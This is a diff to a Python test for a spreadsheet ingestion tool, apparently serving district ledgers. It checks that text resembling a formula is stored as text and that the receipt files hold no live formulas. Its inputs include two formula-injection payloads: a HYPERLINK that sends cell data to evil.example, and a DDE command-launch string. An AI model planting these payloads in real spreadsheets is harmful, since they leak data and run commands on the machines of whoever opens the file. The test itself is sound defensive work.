@@ -357,16 +357,24 @@ def test_xml_entities_are_never_expanded_or_resolved(city, settings, home):
 def test_formula_text_stays_text(city, settings):
     import openpyxl
 
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
     rows = ledger_rows("海曙区")
-    rows[0][1] = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    rows[0][1] = formula
     rows[1][14] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    rows[2][12] = "已办结"  # an error, so the receipt copies the row back
-    write_ledger(city.inbox / "海曙区", "公式.xlsx", rows, AS_OF)
+    path = write_ledger(city.inbox / "海曙区", "公式.xlsx", rows, AS_OF)
+    wb = openpyxl.load_workbook(path)
+    wb["问题清单"]["B3"].data_type = "s"  # text that looks like a formula, as a district may type it
+    wb.save(path)
     city.ingest(settings)
     fate = fates_of(settings)["公式.xlsx"]
-    assert fate["fate"] == "rejected"
-    wb = openpyxl.load_workbook(fate["receipt_path"])
-    for ws in wb.worksheets:
+    assert fate["fate"] == "accepted"
+    engine = warehouse.connect(settings.warehouse_url)
+    with engine.connect() as conn:
+        title = conn.execute(select(cases.c.title).where(cases.c.case_id == "HS-001")).scalar_one()
+    engine.dispose()
+    assert title == formula
+    receipt = openpyxl.load_workbook(fate["receipt_path"])
+    for ws in receipt.worksheets:
         for row in ws.iter_rows():
             for cell in row:
                 assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
